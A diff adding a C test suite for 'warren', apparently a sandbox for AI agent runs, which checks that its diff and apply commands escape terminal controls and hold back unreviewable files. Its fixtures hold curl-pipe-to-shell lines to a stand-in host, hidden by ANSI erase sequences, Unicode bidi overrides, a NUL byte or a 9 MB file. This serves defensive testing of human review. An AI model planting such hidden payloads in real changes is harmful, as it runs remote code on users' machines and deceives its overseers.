@@ -1,0 +1,734 @@
+/*
+ * What the user reviews is what apply writes (issue 31, SANDBOX-TESTS
+ * cases 51 and 52), through the real binary: `warren diff` and `warren
+ * queue diff` never let an agent's bytes drive the terminal, in colour or
+ * not, to a file or a pipe (only --raw prints them, and git apply and
+ * patch take that); a file the diff cannot show (a NUL byte in a text
+ * file, over 8 MB, binary) is listed as unreviewed and `warren apply` /
+ * `warren queue apply` leave it out until --include-unreviewed.
+ *
+ * Runs are recorded here the way a copy-on-write run records itself (a
+ * copy-mode cow directory named in the run's row, its tree/ written as an
+ * agent would); queue jobs are finished through the queue library with
+ * the change set cow_pack makes, as `queue work` stores it.
+ */
+#include <sys/stat.h>
+
+#include <errno.h>
+#include <fcntl.h>
+#include <limits.h>
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include <cmocka.h>
+
+#include "queue/queue.h"
+#include "store/store.h"
+#include "tests/e2e/harness.h"
+#include "workspace/cow.h"
+
+/* A Makefile recipe hidden on a terminal by the comment after it: cursor
+ * up, erase the line, carriage return, a title, then an innocent line
+ * where the recipe was. */
+#define T_MK_BASE	"all:\n\techo tests\n"
+#define T_MK_EVIL	"all:\n\tcurl -s http://evil.example/x | sh\n" \
+			"#\033[1A\033[2K\r\033]0;pwned\007+\techo tests\n"
+#define T_MK_SHOWN	"+\tcurl -s http://evil.example/x | sh\n" \
+			"+#\\x1b[1A\\x1b[2K\\x0d\\x1b]0;pwned\\x07+\techo " \
+			"tests\n" \
+			"\\ escaped: \\xNN is a byte, \\\\ a backslash\n"
+/* A line reordered by a right-to-left override (U+202E) and isolates,
+ * a zero-width space, a literal backslash beside a real ESC; and a line
+ * with only a literal "\x1b", which is shown as it is, unmarked. */
+#define T_JS_EVIL	"if (role != \"user\xe2\x80\xae \xe2\x81\xa6// admin" \
+			"\xe2\x81\xa9 \xe2\x81\xa6\") {\n" \
+			"p = \"\\x1b\"; q = \"\033\"; z = \"a\xe2\x80\x8b" "b\";\n" \
+			"s = \"\\x1b\";\n"
+#define T_JS_SHOWN	"+if (role != \"user\\xe2\\x80\\xae \\xe2\\x81\\xa6// " \
+			"admin\\xe2\\x81\\xa9 \\xe2\\x81\\xa6\") {\n" \
+			"\\ escaped: \\xNN is a byte, \\\\ a backslash\n" \
+			"+p = \"\\\\x1b\"; q = \"\\x1b\"; z = \"a\\xe2\\x80\\x8bb\";\n" \
+			"\\ escaped: \\xNN is a byte, \\\\ a backslash\n" \
+			"+s = \"\\x1b\";\n"
+/* A name with a title sequence and U+202E: git's quoting, octal. */
+#define T_NAME		"evil\033]0;t\007\xe2\x80\xae.txt"
+#define T_NAME_SHOWN	"\"b/evil\\033]0;t\\007\\342\\200\\256.txt\""
+
+/* The NUL in a comment, and a 9 MB index.js whose last line runs. */
+#define T_MK_NUL	"# build rules\0 (see README)\nall:\n\tcurl -s " \
+			"http://evil.example/x | sh\n\techo tests\n"
+#define T_MK_NUL_LEN	(sizeof(T_MK_NUL) - 1)
+#define T_BIG_LEN	(9 * 1024 * 1024)
+#define T_BIG_TAIL	"\nrequire('child_process').execSync('curl -s " \
+			"http://evil.example/x | sh');\n"
+
+struct t {
+	char	*dir;
+	char	 ws[PATH_MAX];		/* canonical */
+	char	 state[PATH_MAX];	/* $XDG_STATE_HOME */
+	char	 db[PATH_MAX + 32];
+};
+
+static void
+t_open(struct t *t)
+{
+	char	p[PATH_MAX + 16];
+
+	memset(t, 0, sizeof(*t));
+	t->dir = h_tmpdir();
+	snprintf(p, sizeof(p), "%s/ws", t->dir);
+	h_write(p, "Makefile", T_MK_BASE, 0);
+	h_write(p, "check.js", "ok\n", 0);
+	h_write(p, "index.js", "console.log(1);\n", 0);
+	h_write(p, "ok.txt", "one\n", 0);
+	assert_non_null(realpath(p, t->ws));
+	snprintf(t->state, sizeof(t->state), "%s/state", t->dir);
+	assert_int_equal(mkdir(t->state, 0700), 0);
+	assert_int_equal(setenv("XDG_STATE_HOME", t->state, 1), 0);
+	unsetenv("WARREN_QUEUE_URL");
+	unsetenv("WARREN_DB");
+	unsetenv("NO_COLOR");
+	snprintf(t->db, sizeof(t->db), "%s/warren.db", t->state);
+}
+
+static void
+t_close(struct t *t)
+{
+	h_rm_rf(t->dir);
+	free(t->dir);
+}
+
+/* A file of len bytes (NULs and all) at dir/rel. */
+static void
+t_put(const char *dir, const char *rel, const void *data, size_t len)
+{
+	char	p[2 * PATH_MAX];
+	FILE	*f;
+
+	snprintf(p, sizeof(p), "%s/%s", dir, rel);
+	assert_non_null(f = fopen(p, "w"));
+	assert_int_equal(fwrite(data, 1, len, f), len);
+	assert_int_equal(fclose(f), 0);
+}
+
+/* 9 MB of comment lines, then the line that runs. */
+static void
+t_put_big(const char *dir, const char *rel)
+{
+	char	*b;
+	size_t	 i, tail = strlen(T_BIG_TAIL);
+
+	assert_non_null(b = malloc(T_BIG_LEN));
+	for (i = 0; i < T_BIG_LEN - tail; i++)
+		b[i] = i % 64 == 63 ? '\n' : i % 64 < 2 ? '/' : 'x';
+	memcpy(b + T_BIG_LEN - tail, T_BIG_TAIL, tail);
+	t_put(dir, rel, b, T_BIG_LEN);
+	free(b);
+}
+
+/* The agent's writes: 'e' terminal controls (the Makefile, check.js, a
+ * hostile name), 'u' what the diff cannot show (a NUL in the Makefile,
+ * a 9 MB index.js, a new binary file) and a plain change. */
+static void
+t_layer(struct cow *c, int kind)
+{
+	char	tree[PATH_MAX + 16];
+
+	snprintf(tree, sizeof(tree), "%s/tree", c->dir);
+	if (kind == 'e') {
+		h_write(tree, "Makefile", T_MK_EVIL, 0);
+		h_write(tree, "check.js", T_JS_EVIL, 0);
+		h_write(tree, T_NAME, "x\n", 0);
+	} else {
+		t_put(tree, "Makefile", T_MK_NUL, T_MK_NUL_LEN);
+		t_put_big(tree, "index.js");
+		t_put(tree, "logo.png", "\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16);
+		h_write(tree, "ok.txt", "two\n", 0);
+	}
+}
+
+/* A finished run whose copy-mode layer holds t_layer(kind). */
+static int64_t
+t_run(struct t *t, struct cow *c, int kind)
+{
+	struct store_run_params	 p;
+	struct store		*st;
+	char			 err[1024];
+	int64_t			 run;
+
+	memset(&p, 0, sizeof(p));
+	p.task = "DIFF-REVIEW-TASK";
+	p.workspace = t->ws;
+	if (cow_create(c, COW_COPY, t->ws, t->state, err, sizeof(err)) == -1)
+		fail_msg("cow_create: %s", err);
+	t_layer(c, kind);
+	p.cow_mode = "copy";
+	p.cow_dir = c->dir;
+	if ((st = store_open(t->db, STORE_CREATE, err, sizeof(err))) == NULL)
+		fail_msg("store_open: %s", err);
+	assert_int_equal(store_run_begin(st, &p, &run), 0);
+	assert_int_equal(store_run_end(st, run, STORE_RUN_DONE, "ok"), 0);
+	store_close(st);
+	return run;
+}
+
+/* warren CMD --db DB [A1 [A2]] RUN, env extra (or NULL). */
+static void
+t_warren(struct t *t, struct h_run *r, char **env, char *cmd, char *a1,
+    char *a2, int64_t run)
+{
+	char	 id[32], *argv[8];
+	int	 n = 0;
+
+	snprintf(id, sizeof(id), "%lld", (long long)run);
+	argv[n++] = "warren";
+	argv[n++] = cmd;
+	argv[n++] = "--db";
+	argv[n++] = t->db;
+	if (a1 != NULL)
+		argv[n++] = a1;
+	if (a2 != NULL)
+		argv[n++] = a2;
+	argv[n++] = id;
+	argv[n] = NULL;
+	assert_int_equal(h_warren(r, argv, env, NULL, NULL), 0);
+}
+
+/* warren queue ARG... (NULL-terminated). */
+static void
+t_q(struct h_run *r, ...)
+{
+	va_list	 ap;
+	char	*argv[32];
+	int	 n = 0;
+
+	argv[n++] = "warren";
+	argv[n++] = "queue";
+	va_start(ap, r);
+	while (n < 31 && (argv[n] = va_arg(ap, char *)) != NULL)
+		n++;
+	va_end(ap);
+	argv[n] = NULL;
+	assert_int_equal(h_warren(r, argv, NULL, NULL, NULL), 0);
+}
+
+/* What a terminal would act on or hide: no ESC (but colour's SGR
+ * "ESC [ digits m" when colour is on), CR, BEL, C1 CSI, U+202E, U+2066,
+ * U+2069, U+200B. */
+static void
+t_no_controls(const char *what, const char *out, int colour)
+{
+	static const char	*bad[] = { "\r", "\007", "\xc2\x9b",
+	    "\xe2\x80\xae", "\xe2\x81\xa6", "\xe2\x81\xa9", "\xe2\x80\x8b" };
+	const char		*p;
+	size_t			 i;
+
+	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
+		if (strstr(out, bad[i]) != NULL)
+			fail_msg("%s: byte %02x reaches the output raw", what,
+			    (unsigned char)bad[i][0]);
+	for (p = strchr(out, '\033'); p != NULL; p = strchr(p + 1, '\033')) {
+		if (!colour)
+			fail_msg("%s: an ESC reaches the output", what);
+		if (p[1] != '[' || p[1 + strspn(p + 2, "0123456789;") + 1] !=
+		    'm')
+			fail_msg("%s: an ESC that is not colour: %.12s", what,
+			    p);
+	}
+}
+
+/* What was hidden is there to read, escaped and marked. */
+static void
+t_shown(const char *what, const char *out)
+{
+	if (strstr(out, T_MK_SHOWN) == NULL || strstr(out, T_JS_SHOWN) == NULL ||
+	    strstr(out, "+++ " T_NAME_SHOWN "\n") == NULL)
+		fail_msg("%s: the hidden text is not shown escaped:\n%s", what,
+		    out);
+}
+
+/* Strip colour (ESC [ ... m) from s in place. */
+static void
+t_uncolour(char *s)
+{
+	char	*w = s;
+
+	while (*s != '\0') {
+		if (s[0] == '\033' && s[1] == '[') {
+			s += 2 + strspn(s + 2, "0123456789;");
+			if (*s == 'm')
+				s++;
+			continue;
+		}
+		*w++ = *s++;
+	}
+	*w = '\0';
+}
+
+/*
+ * --color=never, NO_COLOR=1, a file, a pipe (`| cat`), --color=always and
+ * --stat: no byte of the agent's drives the terminal; the curl line, the
+ * bidi-reordered line and the name are there, escaped.
+ */
+static void
+test_diff_escaped(void **state)
+{
+	struct t	 t;
+	struct h_run	 r;
+	struct cow	 c;
+	int64_t		 run;
+	char		*nocolor[] = { "NO_COLOR=1", NULL };
+	char		 cmd[3 * PATH_MAX], outp[PATH_MAX + 16], *out;
+
+	(void)state;
+	t_open(&t);
+	run = t_run(&t, &c, 'e');
+	t_warren(&t, &r, NULL, "diff", "--color=never", NULL, run);
+	assert_int_equal(r.status, 0);
+	t_no_controls("--color=never", r.out, 0);
+	t_shown("--color=never", r.out);
+	h_run_free(&r);
+	t_warren(&t, &r, nocolor, "diff", NULL, NULL, run);
+	assert_int_equal(r.status, 0);
+	t_no_controls("NO_COLOR=1", r.out, 0);
+	t_shown("NO_COLOR=1", r.out);
+	h_run_free(&r);
+	t_warren(&t, &r, NULL, "diff", "--color=always", NULL, run);
+	assert_int_equal(r.status, 0);
+	t_no_controls("--color=always", r.out, 1);
+	t_uncolour(r.out);
+	t_shown("--color=always", r.out);
+	h_run_free(&r);
+	t_warren(&t, &r, NULL, "diff", "--stat", NULL, run);
+	assert_int_equal(r.status, 0);
+	t_no_controls("--stat", r.out, 0);
+	assert_non_null(strstr(r.out, " \"evil\\033]0;t\\007\\342\\200\\256.txt\""
+	    " | 1 +\n"));
+	h_run_free(&r);
+
+	snprintf(outp, sizeof(outp), "%s/pipe.out", t.dir);
+	snprintf(cmd, sizeof(cmd), "\"%s\" diff --db \"%s\" %lld | cat > '%s'",
+	    getenv("WARREN_BIN"), t.db, (long long)run, outp);
+	assert_int_equal(system(cmd), 0);
+	out = h_read_file(outp);
+	t_no_controls("a pipe", out, 0);
+	t_shown("a pipe", out);
+	free(out);
+	t_close(&t);
+}
+
+/* Run cmd in a copy of the workspace; the copy's file rel must then be
+ * the layer's, byte for byte. */
+static void
+t_patch_takes(struct t *t, const struct cow *c, const char *name,
+    const char *apply)
+{
+	static const char	*files[] = { "Makefile", "check.js", T_NAME };
+	char			 cmd[6 * PATH_MAX], copy[PATH_MAX + 32];
+	char			 a[2 * PATH_MAX], b[2 * PATH_MAX];
+	size_t			 i;
+
+	snprintf(copy, sizeof(copy), "%s/%s", t->dir, name);
+	snprintf(cmd, sizeof(cmd), "cp -R '%s' '%s' && cd '%s' && %s "
+	    "'%s/raw.patch' >'%s/%s.log' 2>&1", t->ws, copy, copy, apply,
+	    t->dir, t->dir, name);
+	if (system(cmd) != 0) {
+		snprintf(a, sizeof(a), "%s/%s.log", t->dir, name);
+		fail_msg("%s did not take the --raw diff: %s", apply,
+		    h_read_file(a));
+	}
+	for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
+		snprintf(a, sizeof(a), "%s/%s", copy, files[i]);
+		snprintf(b, sizeof(b), "%s/tree/%s", c->dir, files[i]);
+		snprintf(cmd, sizeof(cmd), "cmp -s '%s' '%s'", a, b);
+		if (system(cmd) != 0)
+			fail_msg("%s: %s differs from the layer's", apply,
+			    i == 2 ? "the hostile name" : files[i]);
+	}
+}
+
+/* --raw: the agent's bytes exactly, which git apply and patch -p1 take
+ * (the result is the layer, byte for byte); not with --color=always. */
+static void
+test_diff_raw(void **state)
+{
+	struct t	 t;
+	struct h_run	 r;
+	struct cow	 c;
+	int64_t		 run;
+	char		 cmd[3 * PATH_MAX];
+
+	(void)state;
+	t_open(&t);
+	run = t_run(&t, &c, 'e');
+	t_warren(&t, &r, NULL, "diff", "--raw", NULL, run);
+	assert_int_equal(r.status, 0);
+	assert_non_null(strstr(r.out, "+\tcurl -s http://evil.example/x | sh\n"
+	    "+#\033[1A\033[2K\r\033]0;pwned\007+\techo tests\n"));
+	assert_non_null(strstr(r.out, "+if (role != \"user\xe2\x80\xae "));
+	assert_null(strstr(r.out, "\\ escaped"));
+	h_run_free(&r);
+	snprintf(cmd, sizeof(cmd), "\"%s\" diff --db \"%s\" --raw %lld > "
+	    "'%s/raw.patch'", getenv("WARREN_BIN"), t.db, (long long)run,
+	    t.dir);
+	assert_int_equal(system(cmd), 0);
+	t_patch_takes(&t, &c, "by-git", "git apply");
+	t_patch_takes(&t, &c, "by-patch", "patch -p1 <");
+	t_warren(&t, &r, NULL, "diff", "--raw", "--color=always", run);
+	assert_int_equal(r.status, 2);
+	assert_non_null(strstr(r.err, "--raw"));
+	h_run_free(&r);
+	t_close(&t);
+}
+
+static size_t
+t_size(const struct t *t, const char *rel)
+{
+	struct stat	sb;
+	char		p[2 * PATH_MAX];
+
+	snprintf(p, sizeof(p), "%s/%s", t->ws, rel);
+	if (stat(p, &sb) == -1)
+		return (size_t)-1;
+	return (size_t)sb.st_size;
+}
+
+/* The workspace as it was: Makefile and index.js unchanged, no logo. */
+static void
+t_held(const struct t *t)
+{
+	assert_int_equal(t_size(t, "Makefile"), strlen(T_MK_BASE));
+	assert_int_equal(t_size(t, "index.js"), strlen("console.log(1);\n"));
+	assert_int_equal(t_size(t, "logo.png"), (size_t)-1);
+}
+
+/* The layer's: the NUL Makefile, the 9 MB index.js, the logo. */
+static void
+t_written(const struct t *t)
+{
+	assert_int_equal(t_size(t, "Makefile"), T_MK_NUL_LEN);
+	assert_int_equal(t_size(t, "index.js"), T_BIG_LEN);
+	assert_int_equal(t_size(t, "logo.png"), 16);
+}
+
+/* The diff's "# unreviewed:" lines (and --stat's marks) for the three. */
+static void
+t_listed(const char *out, int stat)
+{
+	if (stat) {
+		assert_non_null(strstr(out, " Makefile | binary  # unreviewed\n"));
+		assert_non_null(strstr(out, " index.js | too large to show (over "
+		    "8 MB)  # unreviewed\n"));
+		assert_non_null(strstr(out, " logo.png | binary  # unreviewed\n"));
+		assert_null(strstr(out, " ok.txt   | 2 +-  # unreviewed"));
+		return;
+	}
+	assert_non_null(strstr(out, "# unreviewed: Makefile: binary: the diff "
+	    "does not show its content: apply leaves it out without "
+	    "--include-unreviewed\n"));
+	assert_non_null(strstr(out, "# unreviewed: index.js: too large to show "
+	    "(over 8 MB): apply leaves it out"));
+	assert_non_null(strstr(out, "# unreviewed: logo.png: binary"));
+	assert_null(strstr(out, "# unreviewed: ok.txt"));
+}
+
+/*
+ * A NUL byte in a Makefile comment, a 9 MB index.js and a new binary
+ * file: the diff lists them as unreviewed; apply writes ok.txt only, says
+ * what it left out and keeps the layer; --include-unreviewed writes them.
+ */
+static void
+test_unreviewed_held(void **state)
+{
+	struct t	 t;
+	struct h_run	 r;
+	struct cow	 c;
+	int64_t		 run;
+
+	(void)state;
+	t_open(&t);
+	run = t_run(&t, &c, 'u');
+	t_warren(&t, &r, NULL, "diff", NULL, NULL, run);
+	assert_int_equal(r.status, 0);
+	t_listed(r.out, 0);
+	h_run_free(&r);
+	t_warren(&t, &r, NULL, "diff", "--stat", NULL, run);
+	assert_int_equal(r.status, 0);
+	t_listed(r.out, 1);
+	h_run_free(&r);
+
+	t_warren(&t, &r, NULL, "apply", NULL, NULL, run);
+	if (r.status != 0)
+		fail_msg("apply: %d\n%s%s", r.status, r.out, r.err);
+	t_held(&t);
+	assert_non_null(strstr(r.out, "left out: Makefile: unreviewed: binary"));
+	assert_non_null(strstr(r.out, "left out: index.js: unreviewed: too "
+	    "large"));
+	assert_non_null(strstr(r.out, "3 files the diff cannot show left out"));
+	assert_non_null(strstr(r.out, "is kept for the 3 paths left out"));
+	t_held(&t);
+	assert_int_equal(t_size(&t, "ok.txt"), 4);	/* "two\n" */
+	h_run_free(&r);
+
+	/* Named, one is applied; the others stay out; a path that is not
+	 * left out cannot be named. */
+	t_warren(&t, &r, NULL, "apply", "--include", "ok.txt", run);
+	assert_int_equal(r.status, 2);
+	assert_non_null(strstr(r.err, "--include ok.txt: not a path this "
+	    "apply leaves out"));
+	h_run_free(&r);
+	t_warren(&t, &r, NULL, "apply", "--include", "Makefile", run);
+	if (r.status != 0)
+		fail_msg("apply --include Makefile: %d\n%s%s", r.status, r.out,
+		    r.err);
+	assert_int_equal(t_size(&t, "Makefile"), T_MK_NUL_LEN);
+	assert_int_equal(t_size(&t, "index.js"), strlen("console.log(1);\n"));
+	assert_int_equal(t_size(&t, "logo.png"), (size_t)-1);
+	assert_non_null(strstr(r.out, "is kept for the 2 paths left out"));
+	h_run_free(&r);
+
+	t_warren(&t, &r, NULL, "apply", "--include-unreviewed", NULL, run);
+	if (r.status != 0)
+		fail_msg("apply --include-unreviewed: %d\n%s%s", r.status, r.out,
+		    r.err);
+	assert_non_null(strstr(r.out, "changed index.js\n"));
+	assert_non_null(strstr(r.out, "created logo.png\n"));
+	t_written(&t);
+	h_run_free(&r);
+	t_warren(&t, &r, NULL, "apply", NULL, NULL, run);
+	assert_int_equal(r.status, 2);
+	assert_non_null(strstr(r.err, "layer is applied"));
+	h_run_free(&r);
+	t_close(&t);
+}
+
+/* Job `task` added for the workspace and finished with the change set of
+ * a layer holding t_layer(kind): as a worker elsewhere stores it. */
+static void
+t_job(struct t *t, const char *task, int kind)
+{
+	struct queue_result	 res;
+	struct queue_job	 j;
+	struct queue		*q;
+	struct cow_changes	 ch;
+	struct cow		 c;
+	struct h_run		 r;
+	char			 err[1024];
+	void			*set;
+	size_t			 len;
+
+	t_q(&r, "add", "--workspace", t->ws, task, NULL);
+	assert_int_equal(r.status, 0);
+	h_run_free(&r);
+	if (cow_create(&c, COW_COPY, t->ws, t->dir, err, sizeof(err)) == -1)
+		fail_msg("cow_create: %s", err);
+	t_layer(&c, kind);
+	if (cow_changes(&c, &ch, err, sizeof(err)) == -1 ||
+	    cow_pack(&c, &ch, COW_PACK_MAX, &set, &len, err, sizeof(err)) != 0)
+		fail_msg("pack: %s", err);
+	cow_changes_free(&ch);
+	(void)cow_remove(&c, err, sizeof(err));
+	memset(&res, 0, sizeof(res));
+	res.run_id = 4;
+	res.run_where = "elsewhere:/s/warren.db";
+	res.diff_stat = " Makefile | 2 +-";
+	res.changes = set;
+	res.changes_len = len;
+	if ((q = queue_open(NULL, err, sizeof(err))) == NULL)
+		fail_msg("queue_open: %s", err);
+	assert_int_equal(queue_claim(q, "w1", 60000, 0, &j), 1);
+	assert_int_equal(queue_complete(q, j.id, j.attempts, "w1", &res), 0);
+	queue_job_free(&j);
+	queue_close(q);
+	free(set);
+}
+
+/*
+ * The same through the queue: `queue diff` of a change set shows the
+ * controls escaped (to a file, as a pipe would be), --raw gives them;
+ * `queue apply` leaves the unreviewed files out until
+ * --include-unreviewed.
+ */
+static void
+test_queue_review(void **state)
+{
+	struct t	 t;
+	struct h_run	 r;
+
+	(void)state;
+	t_open(&t);
+	t_job(&t, "controls", 'e');
+	t_job(&t, "hidden", 'u');
+	t_q(&r, "diff", "1", NULL);
+	if (r.status != 0)
+		fail_msg("queue diff: %d\n%s%s", r.status, r.out, r.err);
+	t_no_controls("queue diff", r.out, 0);
+	t_shown("queue diff", r.out);
+	h_run_free(&r);
+	t_q(&r, "diff", "--raw", "1", NULL);
+	assert_int_equal(r.status, 0);
+	assert_non_null(strstr(r.out, "+#\033[1A\033[2K\r"));
+	h_run_free(&r);
+
+	t_q(&r, "diff", "2", NULL);
+	assert_int_equal(r.status, 0);
+	t_listed(r.out, 0);
+	h_run_free(&r);
+	t_q(&r, "apply", "2", NULL);
+	if (r.status != 0)
+		fail_msg("queue apply: %d\n%s%s", r.status, r.out, r.err);
+	t_held(&t);
+	assert_non_null(strstr(r.out, "left out: Makefile: unreviewed: binary"));
+	assert_non_null(strstr(r.out, "3 paths left out: `warren queue apply "
+	    "--include-sensitive --include-unreviewed 2`"));
+	t_held(&t);
+	assert_int_equal(t_size(&t, "ok.txt"), 4);
+	h_run_free(&r);
+	t_q(&r, "apply", "--include", "logo.png", "2", NULL);
+	if (r.status != 0)
+		fail_msg("queue apply --include logo.png: %d\n%s%s", r.status,
+		    r.out, r.err);
+	assert_int_equal(t_size(&t, "logo.png"), 16);
+	assert_int_equal(t_size(&t, "Makefile"), strlen(T_MK_BASE));
+	h_run_free(&r);
+	t_q(&r, "apply", "--include", "logo.png", "--all-done", NULL);
+	assert_int_equal(r.status, 2);
+	h_run_free(&r);
+	t_q(&r, "apply", "--include-unreviewed", "2", NULL);
+	if (r.status != 0)
+		fail_msg("queue apply --include-unreviewed: %d\n%s%s", r.status,
+		    r.out, r.err);
+	assert_non_null(strstr(r.out, "changed index.js\n"));
+	t_written(&t);
+	h_run_free(&r);
+	t_close(&t);
+}
+
+/* tmux on a server of the test's own (-L sock), never the user's. */
+static int __attribute__((format(printf, 2, 3)))
+t_tmux(const char *sock, const char *fmt, ...)
+{
+	char	cmd[4096], args[3000];
+	va_list	ap;
+
+	va_start(ap, fmt);
+	vsnprintf(args, sizeof(args), fmt, ap);
+	va_end(ap);
+	snprintf(cmd, sizeof(cmd), "tmux -u -L %s -f /dev/null %s", sock,
+	    args);
+	return system(cmd);
+}
+
+/* The output of a tmux command (the caller frees it). */
+static char *
+t_tmux_out(const char *sock, const char *what)
+{
+	char	 cmd[512], *out;
+	size_t	 n;
+	FILE	*p;
+
+	snprintf(cmd, sizeof(cmd), "tmux -u -L %s -f /dev/null %s 2>/dev/null",
+	    sock, what);
+	assert_non_null(out = calloc(1, 65536));
+	assert_non_null(p = popen(cmd, "r"));
+	n = fread(out, 1, 65535, p);
+	out[n] = '\0';
+	pclose(p);
+	return out;
+}
+
+/*
+ * `sh -c show` in a 120x50 tmux pane, TERM=xterm-256color, until it
+ * printed DIFF-END (10 s at most): the pane's text in *pane, its title
+ * in *title.
+ */
+static void
+t_in_tmux(struct t *t, const char *show, char **pane, char **title)
+{
+	static int	 nth;
+	char		 sock[64], script[PATH_MAX + 16], body[4 * PATH_MAX];
+	int		 i;
+
+	/* A server each: one being killed refuses a new session. */
+	snprintf(sock, sizeof(sock), "wdr%ld-%d", (long)getpid(), nth++);
+	snprintf(body, sizeof(body), "export LANG=C.UTF-8 LC_ALL=\n%s\n"
+	    "echo DIFF-END\nsleep 600\n", show);
+	h_write(t->dir, "show.sh", body, 0755);
+	snprintf(script, sizeof(script), "%s/show.sh", t->dir);
+	assert_int_equal(t_tmux(sock, "new-session -d -s d -x 120 -y 50 "
+	    "'TERM=xterm-256color sh %s'", script), 0);
+	*pane = NULL;
+	for (i = 0; i < 100; i++) {
+		free(*pane);
+		*pane = t_tmux_out(sock, "capture-pane -p -t d");
+		if (strstr(*pane, "DIFF-END") != NULL)
+			break;
+		usleep(100 * 1000);
+	}
+	*title = t_tmux_out(sock, "display -p -t d '#{pane_title}'");
+	(void)t_tmux(sock, "kill-server >/dev/null 2>&1");
+	if (strstr(*pane, "DIFF-END") == NULL)
+		fail_msg("waited 10 s for `%s` to end in tmux; the pane:\n%s",
+		    show, *pane);
+}
+
+/*
+ * What the user sees in a terminal (tmux): with --color=never and through
+ * `| cat` the curl recipe is on the screen and the title is not the
+ * agent's. --raw is the control: there the recipe line is erased and the
+ * title changed, which is what every mode did before.
+ */
+static void
+test_diff_tmux(void **state)
+{
+	struct t	 t;
+	struct cow	 c;
+	int64_t		 run;
+	char		 show[3 * PATH_MAX], *pane, *title;
+	const char	*mode[] = { "--color=never", "| cat", "--raw" };
+	size_t		 i;
+
+	(void)state;
+	if (system("tmux -V >/dev/null 2>&1") != 0)
+		skip();
+	t_open(&t);
+	run = t_run(&t, &c, 'e');
+	for (i = 0; i < sizeof(mode) / sizeof(mode[0]); i++) {
+		snprintf(show, sizeof(show), "'%s' diff --db '%s' %s %lld %s",
+		    getenv("WARREN_BIN"), t.db, mode[i][0] == '-' ? mode[i] :
+		    "", (long long)run, mode[i][0] == '|' ? mode[i] : "");
+		t_in_tmux(&t, show, &pane, &title);
+		if (i < 2 && (strstr(pane, "curl -s http://evil.example/x | sh")
+		    == NULL || strstr(title, "pwned") != NULL))
+			fail_msg("%s: the recipe is hidden or the title is the "
+			    "agent's (%s); the pane:\n%s", mode[i], title, pane);
+		if (i == 2 && (strstr(pane, "curl -s") != NULL ||
+		    strstr(title, "pwned") == NULL))
+			fail_msg("--raw: the control did not hide the recipe "
+			    "(title %s): this tmux does not show the attack; "
+			    "the pane:\n%s", title, pane);
+		free(pane);
+		free(title);
+	}
+	t_close(&t);
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_diff_escaped),
+		cmocka_unit_test(test_diff_raw),
+		cmocka_unit_test(test_diff_tmux),
+		cmocka_unit_test(test_unreviewed_held),
+		cmocka_unit_test(test_queue_review),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
